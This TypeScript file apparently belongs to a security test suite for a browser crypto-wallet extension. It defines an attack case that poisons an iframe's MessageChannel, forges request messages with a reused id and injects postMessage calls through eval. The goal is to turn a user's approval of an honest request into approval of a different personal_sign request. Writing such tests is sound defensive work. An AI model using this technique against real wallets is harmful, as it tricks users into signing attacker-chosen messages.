import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'frames',
  how: "Starts the guard of a fresh frame with a poisoned channel, and says after the user's Continue that the honest request is over and another has its id.",
  script: `
    const posted = JSON.stringify(attack.posted(attack.sign))
    const poison = (view) => {
      const Channel = view.MessageChannel
      view.MessageChannel = function () {
        const channel = new Channel()
        const hold = (params) => channel.port1.postMessage({
          type: 'request.hold', id: 'reused', provider: {}, method: 'personal_sign', text: JSON.stringify(params), chainId: '0x7a69', account: attack.account,
        })
        const reuse = () => {
          channel.port1.postMessage({ type: 'request.answered', id: 'reused', ok: true, value: '1' })
          hold(attack.sign.params)
        }
        channel.port1.onmessage = ({ data }) => {
          if (data.type === 'request.probe') {
            reuse()
            channel.port1.postMessage({ type: 'request.context', id: data.id, chainId: '0x7a69', account: attack.account })
          }
          if (data.type === 'request.forward') {
            view.eval(\`postMessage(\${posted}, '*')\`)
            reuse()
            view.setTimeout(\`postMessage(\${posted}, '*')\`, 200)
          }
        }
        setTimeout(() => hold(attack.honest.params), 200)
        return { port1: new Channel().port1, port2: channel.port2 }
      }
    }
    const frame = attack.frame()
    for (const { contentWindow } of [frame, attack.frame({ src: attack.frameUrl })]) poison(contentWindow)
    frame.src = attack.frameUrl
    await attack.sleep(600)
    attack.tell('asked')
    await attack.sleep(4000)
    ethereum.request(attack.sign).catch(() => {})
  `,
  frame: 'await attack.until(() => window.ethereum)',
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
  },
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
